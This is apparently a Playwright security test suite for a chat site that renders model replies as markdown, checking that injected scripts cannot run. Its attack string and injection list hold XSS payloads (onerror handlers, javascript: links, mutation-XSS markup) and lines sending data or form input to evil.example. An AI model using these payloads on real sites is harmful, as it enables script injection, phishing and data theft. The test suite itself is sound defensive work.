"""What a reply, a name or an injected script must not be able to do."""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable

from playwright.async_api import expect

from tests.browser.visitor import Site, Visitor

Visit = Callable[..., Awaitable[Visitor]]

ATTACKS = """
<script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 2">

<svg onload="window.pwned = 3"><use href="data:image/svg+xml,x"></use></svg>

[click me](javascript:window.pwned=4) [or me](data:text/html,<script>window.pwned=5</script>)
[tab](java\tscript:alert(1))

![leak](https://evil.example/leak.png?text=secret) ![x](x" onerror="window.pwned=6)

<iframe srcdoc="<script>parent.pwned = 7</script>"></iframe> <a href="#" onclick="window.pwned = 8">x</a>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=9&gt;">

<form action="https://evil.example/"><input name=otp><button>Sign in</button></form>

<style>body { display: none }</style> <base href="https://evil.example/">

<meta http-equiv=refresh content="0;url=//evil.example">

```html"><script>window.pwned=10</script>
<script>window.pwned = 11</script>
```

[a]: javascript:window.pwned=12 "onmouseover=window.pwned=13"
[reference][a] <javascript:window.pwned=14> <https://example.org/?<script>window.pwned=15</script>>

The end of it."""


async def test_a_reply_can_do_nothing(site: Site, visit: Visit) -> None:
    asha = await visit()
    await asha.sign_up('<b>Asha</b><img src=x onerror="pwned=1">')
    site.gemini.reply(ATTACKS, match="Attack", chunks=60, chunk_seconds=0.02)
    site.gemini.reply("<img src=x onerror=pwned=1>", match="Title:", times=None)
    await asha.ask("Attack <img src=x onerror=pwned=16>")
    await asha.sees("The end of it.")
    markdown = asha.entry("Attack").locator(".markdown")
    for _ in range(2):
        await asha.page.wait_for_timeout(300)
        assert await asha.page.evaluate("window.pwned") is None
        forbidden = (
            "script, img, svg, iframe, form, input, style, base, meta, math, object, embed, [onclick], [onerror]"
        )
        assert await markdown.locator(forbidden).count() == 0
        for link in await markdown.locator("a").all():
            address = await link.get_attribute("href") or ""
            assert address == "" or address.startswith(("https://", "http://", "mailto:")), address
            if address:
                assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        await expect(markdown.get_by_text("window.pwned = 1", exact=False).first).to_be_visible()
        assert asha.hosts == {site.url.split("/")[2]}, "nobody else was asked for anything"
        await asha.page.reload()
        await asha.sees("The end of it.")


async def test_no_token_is_within_a_scripts_reach(site: Site, visit: Visit) -> None:
    asha = await visit()
    await asha.sign_up()
    await asha.ask("Hello")
    await asha.page.reload()
    await asha.sees("Hello")
    cookies = await asha.context.cookies()
    assert {cookie["name"] for cookie in cookies} == {"device_token", "refresh_token"}
    for cookie in cookies:
        assert (cookie["path"], cookie["httpOnly"], cookie["sameSite"]) == ("/auth", True, "Strict")
    reach = await asha.page.evaluate(
        "JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}, Object.values(window)"
        ".filter(one => typeof one === 'string')])"
    )
    assert not [cookie["name"] for cookie in cookies if cookie["value"] in reach]
    assert "eyJ" not in reach, "an access token"
    assert json.loads(reach)[:2] == ["", {"signed-in": "1"}]


async def test_what_is_injected_does_not_run(visit: Visit) -> None:
    asha = await visit()
    await asha.sign_up()
    async with asha.allowing("Content Security Policy", "TrustedHTML", "TrustedScript", "csp$"):
        for attack in (
            "const s = document.createElement('script'); s.text = 'window.pwned = 1'; document.body.append(s)",
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.pwned=2>')",
            "const i = new Image(); i.src = 'https://evil.example/x.png'; document.body.append(i)",
            "setTimeout('window.pwned = 3', 0)",
            "document.body.setAttribute('onclick', 'window.pwned = 4'); document.body.click()",
            "await fetch('https://evil.example/', {mode: 'no-cors'})",
        ):
            await asha.page.evaluate(f"(async () => {{ {attack} }})().catch(() => null)")
        await asha.page.wait_for_timeout(200)
    assert await asha.page.evaluate("window.pwned") is None


async def test_the_page_cannot_be_framed_and_names_no_other_host(site: Site, visit: Visit) -> None:
    asha = await visit()
    response = await asha.page.reload()
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert "unsafe" not in policy
    assert "http" not in policy
    assert asha.hosts == {site.url.split("/")[2]}
